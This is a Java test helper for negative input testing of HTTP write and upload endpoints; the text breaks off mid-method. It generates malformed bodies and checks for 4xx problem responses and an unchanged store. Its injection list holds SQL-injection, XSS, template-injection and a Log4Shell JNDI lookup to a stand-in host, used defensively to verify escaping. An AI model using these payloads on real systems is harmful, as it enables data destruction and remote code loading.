package io.earshot.testing;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.restassured.RestAssured;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.Collection;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.function.Function;
import java.util.function.Supplier;
import org.assertj.core.api.SoftAssertions;

/**
 * A catalogue of bad HTTP input, generated from one valid sample body of a write endpoint, and a runner that fires
 * every kind at the endpoint with a valid token. Each kind must be refused with a 4xx {@code application/problem+json}
 * (never a 5xx, never a 2xx) and must leave the store as it was (the caller's "nothing half-written" check).
 * Bodies are raw bytes, so that invalid UTF-8 can be sent.
 *
 * <p>Field-level kinds act on the fields a {@link Target} names (dotted paths into the sample); generic kinds act on
 * the first string and number fields found in the sample, or on the whole body.
 */
public final class BadInput {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String APPLICATION_JSON = "application/json";
    /** A status family: what a kind may be answered with. */
    public static final Set<Integer> BAD_REQUEST = Set.of(400, 422);
    public static final Set<Integer> TOO_LARGE = Set.of(400, 413, 422);
    public static final Set<Integer> UNSUPPORTED = Set.of(400, 415);

    private BadInput() {}

    /** One kind of bad input: a name, the raw body, its content type (null: none) and the statuses that may answer it. */
    public record Kind(String name, byte[] body, String contentType, Set<Integer> expected) {
        @Override
        public String toString() {
            return name;
        }
    }

    /**
     * One write endpoint: who calls it, a valid sample body, and the fields the field-level kinds need (null when the
     * endpoint has no such field): a required field, an enum field, a timestamp field and a count (a number that must
     * not be negative). {@code maxBodyBytes} is the service's {@code quarkus.http.limits.max-body-size}.
     */
    public record Target(String method, String path, String role, String sample, String requiredField, String enumField,
            String timestampField, String countField, long maxBodyBytes, Set<String> except) {

        public Target {
            Objects.requireNonNull(method);
            Objects.requireNonNull(path);
            Objects.requireNonNull(role);
            Objects.requireNonNull(sample);
        }

        public static Target of(String method, String path, String role, String sample, long maxBodyBytes) {
            return new Target(method, path, role, sample, null, null, null, null, maxBodyBytes, Set.of());
        }

        public Target required(String field) {
            return new Target(method, path, role, sample, field, enumField, timestampField, countField, maxBodyBytes,
                    except);
        }

        public Target enumAt(String field) {
            return new Target(method, path, role, sample, requiredField, field, timestampField, countField,
                    maxBodyBytes, except);
        }

        public Target timestampAt(String field) {
            return new Target(method, path, role, sample, requiredField, enumField, field, countField, maxBodyBytes,
                    except);
        }

        public Target countAt(String field) {
            return new Target(method, path, role, sample, requiredField, enumField, timestampField, field, maxBodyBytes,
                    except);
        }

        /**
         * Without the named kinds, for an endpoint where they are valid input (an optional body: "empty body",
         * "JSON null", "empty object {}").
         */
        public Target except(String... kinds) {
            return new Target(method, path, role, sample, requiredField, enumField, timestampField, countField,
                    maxBodyBytes,
                    Set.of(kinds));
        }

        @Override
        public String toString() {
            return method + " " + path;
        }
    }

    /** The names of every kind the catalogue can produce (those needing a field appear only when the target has one). */
    public static final List<String> KINDS = List.of("malformed JSON (truncated)", "trailing garbage after JSON",
            "comment in JSON", "empty body", "JSON null", "empty object {}", "array instead of object",
            "string instead of object",
            "number instead of object", "boolean instead of object", "single-quoted JSON", "unquoted keys",
            "XML instead of JSON", "duplicate keys", "nesting depth 10,000", "invalid UTF-8 bytes",
            "lone surrogate \\uD800", "NUL and control chars", "wrong type for string field (object)",
            "wrong type for string field (number)", "wrong type for number field (string)", "number overflow 1e400",
            "integer overflow 2^70", "NaN literal", "huge string 2 MB", "array of 100,000",
            "wrong content type text/plain",
            "form content type", "no content type", "oversized body > limit", "drop required field",
            "required field null", "unknown enum value", "enum as number", "timestamp year 9999", "timestamp year 1",
            "timestamp not a date", "negative count", "unknown field");

    /** The field the "unknown field" kind adds to the sample's object. */
    public static final String UNKNOWN_FIELD = "notAFieldOfThisEndpoint";

    /** Every kind applicable to {@code target}. */
    public static List<Kind> catalogue(Target target) {
        JsonNode sample = parse(target.sample());
        String objectPath = sample.isObject() ? "" : "0";
        ObjectNode object = (ObjectNode) (sample.isObject() ? sample : sample.get(0));
        String firstKey = object.fieldNames().hasNext() ? object.fieldNames().next() : "x";
        String anyField = objectPath.isEmpty() ? firstKey : objectPath + "." + firstKey;
        // Without a string (number) field in the sample, the string (number) kinds go to its first field.
        String text = Objects.requireNonNullElse(firstPath(sample, JsonNode::isTextual), anyField);
        String number = Objects.requireNonNullElse(firstPath(sample, JsonNode::isNumber), anyField);
        List<Kind> kinds = new ArrayList<>();
        String s = sample.toString();
        kinds.add(json("malformed JSON (truncated)", s.substring(0, s.length() - 1)));
        kinds.add(json("trailing garbage after JSON", s + " {\"again\":true}"));
        kinds.add(json("comment in JSON", "/* c */ " + s));
        kinds.add(new Kind("empty body", new byte[0], APPLICATION_JSON, BAD_REQUEST));
        kinds.add(json("JSON null", "null"));
        kinds.add(json("empty object {}", "{}"));
        kinds.add(sample.isObject()
                ? json("array instead of object", "[" + s + "]")
                : json("object instead of array", "{\"items\":" + s + "}"));
        kinds.add(json("string instead of object", "\"" + firstKey + "\""));
        kinds.add(json("number instead of object", "42"));
        kinds.add(json("boolean instead of object", "true"));
        kinds.add(json("single-quoted JSON", s.replace('"', '\'')));
        kinds.add(json("unquoted keys", s.replaceAll("\"([A-Za-z0-9_]+)\":", "$1:")));
        kinds.add(json("XML instead of JSON", "<?xml version=\"1.0\"?><" + firstKey + ">x</" + firstKey + ">"));
        String duplicated = "{\"" + firstKey + "\":" + object.get(firstKey) + "," + object.toString().substring(1);
        kinds.add(json("duplicate keys", objectPath.isEmpty()
                ? duplicated
                : replaceRaw(sample, objectPath, duplicated)));
        String deep = "[".repeat(10_000) + "]".repeat(10_000);
        kinds.add(json("nesting depth 10,000", replaceRaw(sample, text, deep)));
        String marker = "\u0001MARK\u0001";
        {
            byte[] withMarker = bytes(with(sample, text, JsonNodeFactory.instance.textNode("before" + marker
                    + "after")));
            kinds.add(new Kind("invalid UTF-8 bytes", replace(withMarker, "\\u0001MARK\\u0001",
                    new byte[]{(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE}), APPLICATION_JSON, BAD_REQUEST));
            kinds.add(json("lone surrogate \\uD800", replaceRaw(sample, text, "\"before\\uD800after\"")));
            kinds.add(json("NUL and control chars", replaceRaw(sample, text, "\"a\\u0000b\\u0007c\\u001b[31m\"")));
            kinds.add(json("wrong type for string field (object)", replaceRaw(sample, text, "{\"unexpected\":true}")));
            kinds.add(json("wrong type for string field (number)", replaceRaw(sample, text, "12345")));
            kinds.add(new Kind("huge string 2 MB", bytes(with(sample, text,
                    JsonNodeFactory.instance.textNode("x".repeat(2 * 1024 * 1024)))), APPLICATION_JSON, TOO_LARGE));
        }
        if (!at(sample, number).isTextual()) {
            kinds.add(json("wrong type for number field (string)", replaceRaw(sample, number, "\"twelve\"")));
        }
        {
            kinds.add(json("number overflow 1e400", replaceRaw(sample, number, "1e400")));
            kinds.add(json("integer overflow 2^70", replaceRaw(sample, number, "1180591620717411303424")));
            kinds.add(json("NaN literal", replaceRaw(sample, number, "NaN")));
        }
        String arrayField = sample.isArray() ? null : firstPath(sample, JsonNode::isArray);
        ArrayNode huge = JsonNodeFactory.instance.arrayNode();
        JsonNode element = arrayField == null || at(sample, arrayField).isEmpty()
                ? JsonNodeFactory.instance.textNode("x")
                : at(sample, arrayField).get(0);
        // 100,000 copies of the array's first element (or of "x"); for an array body, of its first element.
        for (int i = 0; i < 100_000; i++) {
            huge.add(element);
        }
        if (sample.isArray()) {
            huge.removeAll();
            for (int i = 0; i < 100_000; i++) {
                huge.add(sample.get(0));
            }
        }
        kinds.add(new Kind("array of 100,000", sample.isArray()
                ? bytes(huge)
                : bytes(with(sample, arrayField == null ? anyField : arrayField, huge)), APPLICATION_JSON, TOO_LARGE));
        kinds.add(new Kind("wrong content type text/plain", bytes(sample), "text/plain", UNSUPPORTED));
        kinds.add(new Kind("form content type", bytes(sample), "application/x-www-form-urlencoded", UNSUPPORTED));
        kinds.add(new Kind("no content type", bytes(sample), null, UNSUPPORTED));
        kinds.add(new Kind("oversized body > limit", oversized(sample, text, target.maxBodyBytes()),
                APPLICATION_JSON, Set.of(413)));
        if (target.requiredField() != null) {
            kinds.add(json("drop required field " + target.requiredField(), without(sample, target.requiredField())));
            kinds.add(json("required field null " + target.requiredField(), replaceRaw(sample, target.requiredField(),
                    "null")));
        }
        if (target.enumField() != null) {
            kinds.add(json("unknown enum value in " + target.enumField(),
                    replaceRaw(sample, target.enumField(), "\"NO_SUCH_VALUE\"")));
            kinds.add(json("enum as number in " + target.enumField(), replaceRaw(sample, target.enumField(), "0")));
        }
        if (target.timestampField() != null) {
            kinds.add(json("timestamp year 9999 in " + target.timestampField(),
                    replaceRaw(sample, target.timestampField(), "\"9999-12-31T23:59:59Z\"")));
            kinds.add(json("timestamp year 1 in " + target.timestampField(),
                    replaceRaw(sample, target.timestampField(), "\"0001-01-01T00:00:00Z\"")));
            kinds.add(json("timestamp not a date in " + target.timestampField(),
                    replaceRaw(sample, target.timestampField(), "\"yesterday\"")));
        }
        if (target.countField() != null) {
            kinds.add(json("negative count in " + target.countField(), replaceRaw(sample, target.countField(), "-1")));
        }
        // A field the endpoint does not know (a typo, a field of another version) is refused, never silently dropped.
        kinds.add(new Kind("unknown field", bytes(with(sample, objectPath.isEmpty()
                ? UNKNOWN_FIELD
                : objectPath + "." + UNKNOWN_FIELD, JsonNodeFactory.instance.numberNode(1))), APPLICATION_JSON, Set.of(
                        400)));
        kinds.removeIf(k -> target.except().contains(k.name()));
        return kinds;
    }

    /**
     * Fires every kind of the catalogue at {@code target} and asserts each answer (all failures are collected, then
     * reported together). {@code state} reads what the endpoint could have written (e.g. {@link #tableState}); it must
     * be the same after every kind as before it.
     */
    public static int verify(Target target, Supplier<?> state) {
        return verifyAll(List.of(target), state);
    }

    /** {@link #verify} for each target, reporting the failures of all together; returns the number of requests. */
    public static int verifyAll(List<Target> targets, Supplier<?> state) {
        return verifyAll(targets, BadInput::catalogue, 25, state);
    }

    /**
     * {@link #verifyAll} with another catalogue (e.g. {@link #uploadCatalogue} for a file upload), each target getting
     * at least {@code minKinds} of it; every answer must be a problem.
     */
    public static int verifyAll(List<Target> targets, Function<Target, List<Kind>> catalogue, int minKinds,
            Supplier<?> state) {
        SoftAssertions soft = new SoftAssertions();
        int fired = 0;
        for (Target target : targets) {
            int n = verifyKinds(target.toString(), catalogue.apply(target), k -> send(target, k),
                    BadInput::assertProblem,
                    state, soft);
            soft.assertThat(n).as("kinds fired at %s", target).isGreaterThanOrEqualTo(minKinds);
            fired += n;
        }
        soft.assertAll();
        return fired;
    }

    /** How an answer to a kind must look; failures go to {@code soft}, described by {@code where}. */
    @FunctionalInterface
    public interface Expectation {
        void check(Kind kind, Answer answer, String where, SoftAssertions soft);
    }

    /** The request that fires one kind at one endpoint. */
    @FunctionalInterface
    public interface Sender {
        Answer send(Kind kind) throws IOException;
    }

    /**
     * Fires every kind, checks each answer with {@code expectation} and that {@code state} is the same after it as
     * before it; returns the number of kinds fired.
     */
    public static int verifyKinds(String target, List<Kind> kinds, Sender sender, Expectation expectation,
            Supplier<?> state, SoftAssertions soft) {
        for (Kind kind : kinds) {
            Object before = state.get();
            String where = target + " with " + kind.name();
            Answer r;
            try {
                r = sender.send(kind);
            } catch (IOException e) {
                soft.fail("%s: no answer (%s)", where, e);
                continue;
            }
            soft.assertThat(r.statusCode()).as("status of %s (body %s)", where, abbreviate(r.body())).isIn(kind
                    .expected());
            expectation.check(kind, r, where, soft);
            soft.assertThat(state.get()).as("store after %s", where).isEqualTo(before);
        }
        return kinds.size();
    }

    /** A Java type or package name, which no problem may show an integrator. */
    private static final java.util.regex.Pattern JAVA_NAME = java.util.regex.Pattern.compile(
            "java\\.|javax\\.|jakarta\\.|io\\.earshot|com\\.fasterxml|org\\.jboss|`");

    /**
     * The answer is an {@code application/problem+json} with a title and its own status, whose detail and field
     * messages name no Java type; a body that is not JSON at all is answered with where it went wrong.
     */
    public static void assertProblem(Kind kind, Answer r, String where, SoftAssertions soft) {
        soft.assertThat(r.contentType()).as("content type of %s", where).startsWith("application/problem+json");
        if (r.contentType() != null && r.contentType().startsWith("application/problem+json")) {
            soft.assertThat(r.json().path("title").asText()).as("title of %s", where).isNotBlank();
            soft.assertThat(r.json().path("status").asInt()).as("status field of %s", where).isEqualTo(r.statusCode());
            soft.assertThat(r.json().path("detail").asText()).as("detail of %s", where).doesNotContainPattern(
                    JAVA_NAME);
            r.json().path("errors").forEach(e -> soft.assertThat(e.path("message").asText())
                    .as("field message of %s", where).doesNotContainPattern(JAVA_NAME));
            if (kind.name().equals("unknown field")) {
                soft.assertThat(r.json().path("errors").findValuesAsText("field")).as("field named by %s", where)
                        .anySatisfy(f -> assertThat(f).endsWith(UNKNOWN_FIELD));
                soft.assertThat(r.json().path("errors").findValuesAsText("pointer")).as("JSON pointer of %s", where)
                        .anySatisfy(f -> assertThat(f).startsWith("/").endsWith("/" + UNKNOWN_FIELD));
            }
            if (kind.name().equals("malformed JSON (truncated)") && r.statusCode() == 400) {
                soft.assertThat(r.json().path("detail").asText()).as("detail of %s", where).contains("line ");
            }
        }
    }

    /** An answer: its status, Content-Type (null when none), body and its Set-Cookie headers. */
    public record Answer(int statusCode, String contentType, String body, List<String> setCookies) {
        public JsonNode json() {
            try {
                return JSON.readTree(body);
            } catch (JsonProcessingException e) {
                return JsonNodeFactory.instance.missingNode();
            }
        }
    }

    /**
     * Sends one kind to the target with a valid bearer token of the target's role, exactly as given (raw bytes, the
     * kind's Content-Type or none at all). A body over the limit asks first (Expect: 100-continue), as a
     * well-behaved client of a large upload does: the server answers before reading it and closes the connection.
     */
    public static Answer send(Target target, Kind kind) throws IOException {
        return send(target.method(), target.path(), Map.of("Authorization", TestTokens.bearer(target.role())), kind,
                target.maxBodyBytes());
    }

    /**
     * Sends one kind to {@code path} (with its query, if any) of the application under test with the given headers,
     * exactly as given; see {@link #send(Target, Kind)}.
     */
    public static Answer send(String method, String path, Map<String, String> headers, Kind kind, long maxBodyBytes)
            throws IOException {
        URI uri = URI.create(RestAssured.baseURI + ":" + RestAssured.port + RestAssured.basePath + path);
        return raw(uri, method, headers, kind, maxBodyBytes);
    }

    /**
     * One request over a plain socket, so that nothing is added or changed (java.net.http of Java 17 also waits
     * forever when the answer to Expect: 100-continue is final). A body over the limit is announced with Expect:
     * 100-continue and sent only after a 100.
     */
    private static Answer raw(URI uri, String method, Map<String, String> headers, Kind kind, long maxBodyBytes)
            throws IOException {
        try (java.net.Socket socket = new java.net.Socket(uri.getHost(), uri.getPort())) {
            socket.setSoTimeout(120_000);
            boolean ask = kind.body().length > maxBodyBytes;
            StringBuilder extra = new StringBuilder();
            headers.forEach((name, value) -> extra.append("\r\n").append(name).append(": ").append(value));
            String head = method + " " + uri.getRawPath() + (uri.getRawQuery() == null ? "" : "?" + uri.getRawQuery())
                    + " HTTP/1.1\r\nHost: " + uri.getHost() + ":" + uri.getPort() + extra
                    + (kind.contentType() == null ? "" : "\r\nContent-Type: " + kind.contentType())
                    + "\r\nContent-Length: " + kind.body().length
                    + (ask ? "\r\nExpect: 100-continue" : "") + "\r\nConnection: close\r\n\r\n";
            socket.getOutputStream().write(head.getBytes(StandardCharsets.US_ASCII));
            if (!ask) {
                socket.getOutputStream().write(kind.body());
            }
            socket.getOutputStream().flush();
            java.io.InputStream in = socket.getInputStream();
            String status = line(in);
            if (ask && status.contains(" 100 ")) {
                line(in); // the empty line after the interim answer
                socket.getOutputStream().write(kind.body());
                socket.getOutputStream().flush();
                status = line(in);
            }
            String contentType = null;
            List<String> cookies = new ArrayList<>();
            long length = -1;
            boolean chunked = false;
            for (String h = line(in); !h.isEmpty(); h = line(in)) {
                int colon = h.indexOf(':');
                String name = colon < 0 ? h : h.substring(0, colon).trim();
                String value = colon < 0 ? "" : h.substring(colon + 1).trim();
                if (name.equalsIgnoreCase("Content-Type")) {
                    contentType = value;
                } else if (name.equalsIgnoreCase("Set-Cookie")) {
                    cookies.add(value);
                } else if (name.equalsIgnoreCase("Content-Length")) {
                    length = Long.parseLong(value);
                } else if (name.equalsIgnoreCase("Transfer-Encoding")) {
                    chunked = value.toLowerCase(java.util.Locale.ROOT).contains("chunked");
                }
            }
            byte[] body;
            if (chunked) {
                ByteArrayOutputStream all = new ByteArrayOutputStream();
                for (int size = Integer.parseInt(line(in).split(";")[0].trim(), 16); size > 0; size = Integer.parseInt(
                        line(in).split(";")[0].trim(), 16)) {
                    all.writeBytes(in.readNBytes(size));
                    line(in);
                }
                body = all.toByteArray();
            } else {
                body = length >= 0 ? in.readNBytes((int) length) : in.readAllBytes();
            }
            return new Answer(Integer.parseInt(status.split(" ")[1]), contentType, new String(body,
                    StandardCharsets.UTF_8),
                    List.copyOf(cookies));
        }
    }

    private static String line(java.io.InputStream in) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (int c = in.read(); c >= 0 && c != '\n'; c = in.read()) {
            if (c != '\r') {
                out.write(c);
            }
        }
        return out.toString(StandardCharsets.US_ASCII);
    }

    /** The service's {@code quarkus.http.limits.max-body-size} in bytes (Quarkus' default 10M when unset). */
    public static long maxBodyBytes() {
        String v = org.eclipse.microprofile.config.ConfigProvider.getConfig()
                .getOptionalValue("quarkus.http.limits.max-body-size", String.class).orElse("10M").trim().toUpperCase();
        long unit = switch (v.charAt(v.length() - 1)) {
            case 'K' -> 1024L;
            case 'M' -> 1024L * 1024;
            case 'G' -> 1024L * 1024 * 1024;
            default -> 1L;
        };
        return Long.parseLong(unit == 1 ? v : v.substring(0, v.length() - 1)) * unit;
    }

    // ---- file uploads -------------------------------------------------------------------------------------------

    static final String NDJSON = "application/x-ndjson";
    static final String CSV = "text/csv";

    /** The names of every kind {@link #uploadCatalogue} can produce (the last three depend on the file's format). */
    public static final List<String> UPLOAD_KINDS = List.of("empty file", "wrong content type application/json",
            "wrong content type text/plain", "form content type", "no content type", "Latin-1 file with accents",
            "oversized body > limit", "invalid UTF-8 bytes in the first row", "invalid UTF-8 bytes in the last row",
            "lone surrogate (CESU-8 ED A0 80)", "overlong UTF-8 (C0 AF)", "NUL bytes (a UTF-16 file)",
            "binary file (gzip)", "XML instead of the format", "JSON array instead of JSONL",
            "first line not JSON (truncated)", "CSV instead of JSONL", "no text column in the header",
            "unterminated quote in the header", "JSONL instead of CSV", "other delimiter than announced");

    /**
     * Every kind of bad file for an upload endpoint that takes the file as the raw body: a JSONL file
     * ({@code application/x-ndjson}) when the target's sample starts with '{', else a CSV file with a header row
     * ({@code text/csv}). Faults of the file as a whole (its type, size, encoding, structure) must be refused at once
     * with a problem; a fault in one row of an otherwise good file is not among them (an import reports those rows).
     * Bytes that break the encoding go at the first space of the first row (inside its text).
     */
    public static List<Kind> uploadCatalogue(Target target) {
        String sample = target.sample();
        boolean jsonl = sample.startsWith("{");
        String type = jsonl ? NDJSON : CSV;
        String[] lines = sample.split("\n");
        String firstRow = jsonl ? lines[0] : lines[1];
        byte[] file = sample.getBytes(StandardCharsets.UTF_8);
        List<Kind> kinds = new ArrayList<>();
        kinds.add(new Kind("empty file", new byte[0], type, BAD_REQUEST));
        kinds.add(new Kind("wrong content type application/json", file, APPLICATION_JSON, UNSUPPORTED));
        kinds.add(new Kind("wrong content type text/plain", file, "text/plain", UNSUPPORTED));
        kinds.add(new Kind("form content type", file, "application/x-www-form-urlencoded", UNSUPPORTED));
        kinds.add(new Kind("no content type", file, null, UNSUPPORTED));
        // Declared as Latin-1 and holding an accent that is not UTF-8: refused for its bytes (400) or its charset (415).
        kinds.add(new Kind("Latin-1 file with accents", insertAtFirstSpace(sample, firstRow, " caf\u00e9"
                .getBytes(StandardCharsets.ISO_8859_1)), type + "; charset=iso-8859-1", Set.of(400, 415)));
        byte[] big = new byte[(int) Math.min(target.maxBodyBytes() + 1024, Integer.MAX_VALUE - 1024)];
        java.util.Arrays.fill(big, (byte) 'y');
        System.arraycopy(file, 0, big, 0, file.length);
        kinds.add(new Kind("oversized body > limit", big, type, Set.of(413)));
        byte[] invalid = {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE};
        kinds.add(new Kind("invalid UTF-8 bytes in the first row", insertAtFirstSpace(sample, firstRow, invalid), type,
                BAD_REQUEST));
        String longer = sample + (sample.endsWith("\n") ? "" : "\n") + firstRow.replace("bad-input", "bad-input-last")
                + "\n";
        kinds.add(new Kind("invalid UTF-8 bytes in the last row", insertAtFirstSpace(longer,
                firstRow.replace("bad-input", "bad-input-last"), invalid), type, BAD_REQUEST));
        kinds.add(new Kind("lone surrogate (CESU-8 ED A0 80)", insertAtFirstSpace(sample, firstRow,
                new byte[]{(byte) 0xED, (byte) 0xA0, (byte) 0x80}), type, BAD_REQUEST));
        kinds.add(new Kind("overlong UTF-8 (C0 AF)", insertAtFirstSpace(sample, firstRow,
                new byte[]{(byte) 0xC0, (byte) 0xAF}), type, BAD_REQUEST));
        ByteArrayOutputStream utf16 = new ByteArrayOutputStream();
        utf16.writeBytes(new byte[]{(byte) 0xFF, (byte) 0xFE});
        utf16.writeBytes(sample.getBytes(StandardCharsets.UTF_16LE));
        kinds.add(new Kind("NUL bytes (a UTF-16 file)", utf16.toByteArray(), type, BAD_REQUEST));
        kinds.add(new Kind("binary file (gzip)", gzip(file), type, BAD_REQUEST));
        kinds.add(new Kind("XML instead of the format",
                "<?xml version=\"1.0\"?>\n<rows><row>the app is down</row></rows>\n"
                        .getBytes(StandardCharsets.UTF_8), type, BAD_REQUEST));
        if (jsonl) {
            String array = "[" + String.join(",", java.util.Arrays.stream(lines).filter(l -> !l.isBlank()).toList())
                    + "]\n";
            kinds.add(new Kind("JSON array instead of JSONL", array.getBytes(StandardCharsets.UTF_8), type,
                    BAD_REQUEST));
            kinds.add(new Kind("first line not JSON (truncated)", (lines[0].substring(0, lines[0].length() - 1) + "\n"
                    + sample).getBytes(StandardCharsets.UTF_8), type, BAD_REQUEST));
            kinds.add(new Kind("CSV instead of JSONL", "externalId,text\nbad-input-csv,the app is down\n"
                    .getBytes(StandardCharsets.UTF_8), type, BAD_REQUEST));
        } else {
            String header = lines[0];
            kinds.add(new Kind("no text column in the header", sample.replaceFirst(java.util.regex.Pattern.quote(
                    header),
                    header.replace("text", "words")).getBytes(StandardCharsets.UTF_8), type, BAD_REQUEST));
            kinds.add(new Kind("unterminated quote in the header", sample.replaceFirst(java.util.regex.Pattern.quote(
                    header),
                    "\"" + header).getBytes(StandardCharsets.UTF_8), type, BAD_REQUEST));
            kinds.add(new Kind("JSONL instead of CSV", "{\"externalId\":\"bad-input-j\",\"text\":\"the app is down\"}\n"
                    .getBytes(StandardCharsets.UTF_8), type, BAD_REQUEST));
            kinds.add(new Kind("other delimiter than announced", sample.replace(',', ';').getBytes(
                    StandardCharsets.UTF_8),
                    type, BAD_REQUEST));
        }
        kinds.removeIf(k -> target.except().contains(k.name()));
        return kinds;
    }

    private static byte[] insertAtFirstSpace(String file, String row, byte[] bytes) {
        int at = file.lastIndexOf(row);
        int space = at < 0 ? -1 : file.indexOf(' ', at);
        if (space < 0) {
            throw new IllegalArgumentException("the row has no space to put the bytes at: " + row);
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(file.substring(0, space).getBytes(StandardCharsets.UTF_8));
        out.writeBytes(bytes);
        out.writeBytes(file.substring(space).getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    private static byte[] gzip(byte[] data) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (java.util.zip.GZIPOutputStream z = new java.util.zip.GZIPOutputStream(out)) {
            z.write(data);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    // ---- nothing half-written

    /** {@link #tableState} of the service's own database (its {@code quarkus.datasource.jdbc.url}). */
    public static Supplier<Map<String, String>> serviceTables(String... ignored) {
        org.eclipse.microprofile.config.Config c = org.eclipse.microprofile.config.ConfigProvider.getConfig();
        String url = c.getValue("quarkus.datasource.jdbc.url", String.class);
        String user = c.getOptionalValue("quarkus.datasource.username", String.class).orElse("postgres");
        String password = c.getOptionalValue("quarkus.datasource.password", String.class).orElse("");
        return () -> tableState(url, user, password, List.of(ignored));
    }

    /**
     * The row count and an md5 of the content of each table of the public schema (but {@code ignored} ones, e.g. the
     * Flyway history or tables that background jobs touch), in the database at {@code jdbcUrl}.
     */
    public static Map<String, String> tableState(String jdbcUrl, String user, String password,
            Collection<String> ignored) {
        try (Connection c = DriverManager.getConnection(jdbcUrl, user, password == null ? "" : password)) {
            List<String> tables = new ArrayList<>();
            try (PreparedStatement st = c.prepareStatement("select table_name from information_schema.tables"
                    + " where table_schema = 'public' and table_type = 'BASE TABLE' order by table_name");
                    ResultSet rs = st.executeQuery()) {
                while (rs.next()) {
                    if (!ignored.contains(rs.getString(1)) && !rs.getString(1).startsWith("flyway")) {
                        tables.add(rs.getString(1));
                    }
                }
            }
            Map<String, String> state = new LinkedHashMap<>();
            for (String table : tables) {
                try (PreparedStatement st = c.prepareStatement(
                        "select count(*), md5(coalesce(string_agg(t::text, '|' order by t::text), ''))"
                                + " from \"" + table + "\" t");
                        ResultSet rs = st.executeQuery()) {
                    rs.next();
                    state.put(table, rs.getLong(1) + " rows, " + rs.getString(2));
                }
            }
            return state;
        } catch (SQLException e) {
            throw new IllegalStateException("cannot read the tables of " + jdbcUrl + ": " + e.getMessage(), e);
        }
    }

    // ---- injection strings ------------------------------------------------------------------------------------

    /** Strings that must be accepted, stored verbatim (inert) and rendered escaped wherever a page shows them. */
    public static final List<String> INJECTIONS = List.of("'; DROP TABLE cases; --", "<script>alert('x')</script>",
            "{{7*7}} ${7*7} #{7*7}", "${jndi:ldap://evil.example/a}", "\" onmouseover=\"alert(1)",
            "<img src=x onerror=alert(1)>");

    /** {@code sample} with the string at {@code field} replaced by {@code value}. */
    public static String withText(String sample, String field, String value) {
        // (a dotted path; an array's elements by index)
        return with(parse(sample), field, JsonNodeFactory.instance.textNode(value)).toString();
    }

    /** Asserts that {@code html} shows {@code injection} escaped (HTML-encoded) and never raw. */
    public static void assertRenderedEscaped(String html, String injection) {
        String escaped = htmlEscape(injection);
        if (!escaped.equals(injection)) {
            assertThat(html).as("page shows the raw text %s", injection).doesNotContain(injection);
        }
        // Shown literally: escaped, and a template expression like {{7*7}} not evaluated.
        assertThat(html).as("page shows the escaped text of %s", injection).contains(escaped);
    }

    /** Awaits two equal reads of {@code state} half a second apart: background work has settled. */
    public static void awaitSettled(Supplier<?> state) {
        Object[] last = {state.get()};
        org.awaitility.Awaitility.await().atMost(java.time.Duration.ofSeconds(120))
                .pollInterval(java.time.Duration.ofMillis(500)).until(() -> {
                    Object now = state.get();
                    boolean same = now.equals(last[0]);
                    last[0] = now;
                    return same;
                });
    }

    /** The minimal HTML escape every template engine applies (&, <, >, ", '); Qute writes ' as &#39;. */
    public static String htmlEscape(String s) {
        return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\"", "&quot;")
                .replace("'", "&#39;");
    }

    // ---- helpers ------------------------------------------------------------------------------------------------

    private static Kind json(String name, String body) {
        return new Kind(name, body.getBytes(StandardCharsets.UTF_8), APPLICATION_JSON, BAD_REQUEST);
    }

    private static JsonNode parse(String sample) {
        try {
            JsonNode node = JSON.readTree(sample);
            if (!(node instanceof ObjectNode) && !(node instanceof ArrayNode a && !a.isEmpty() && a.get(0)
                    .isObject())) {
                throw new IllegalArgumentException("the sample must be a JSON object or an array of objects: "
                        + sample);
            }
            return node;
        } catch (JsonProcessingException e) {
            throw new IllegalArgumentException("the sample is not JSON: " + sample, e);
        }
    }

    private static byte[] bytes(JsonNode node) {
        return node.toString().getBytes(StandardCharsets.UTF_8);
    }

    /** The dotted path of the first value (depth first; an array's first element) that matches. */
    private static String firstPath(JsonNode node, java.util.function.Predicate<JsonNode> match) {
        if (node instanceof ArrayNode a) {
            String inner = a.isEmpty() ? null : firstPath(a.get(0), match);
            return inner == null ? null : "0." + inner;
        }
        for (Map.Entry<String, JsonNode> e : node.properties()) {
            if (match.test(e.getValue())) {
                return e.getKey();
            }
            if (e.getValue() instanceof ObjectNode child) {
                String inner = firstPath(child, match);
                if (inner != null) {
                    return e.getKey() + "." + inner;
                }
            }
        }
        return null;
    }

    private static JsonNode step(JsonNode n, String part) {
        return n.isArray() ? n.path(Integer.parseInt(part)) : n.path(part);
    }

    private static JsonNode at(JsonNode root, String path) {
        JsonNode n = root;
        for (String part : path.split("\\.")) {
            n = step(n, part);
        }
        return n;
    }

    private static JsonNode parentOf(JsonNode copy, String path) {
        String[] parts = path.split("\\.");
        JsonNode n = copy;
        for (int i = 0; i < parts.length - 1; i++) {
            n = step(n, parts[i]);
            if (!n.isContainerNode()) {
                throw new IllegalArgumentException("nothing at " + parts[i] + " of " + path);
            }
        }
        return n;
    }

    private static String last(String path) {
        return path.substring(path.lastIndexOf('.') + 1);
    }

    private static JsonNode with(JsonNode sample, String path, JsonNode value) {
        JsonNode copy = sample.deepCopy();
        JsonNode parent = parentOf(copy, path);
        if (parent instanceof ArrayNode a) {
            a.set(Integer.parseInt(last(path)), value);
        } else {
            ((ObjectNode) parent).set(last(path), value);
        }
        return copy;
    }

    private static String without(JsonNode sample, String path) {
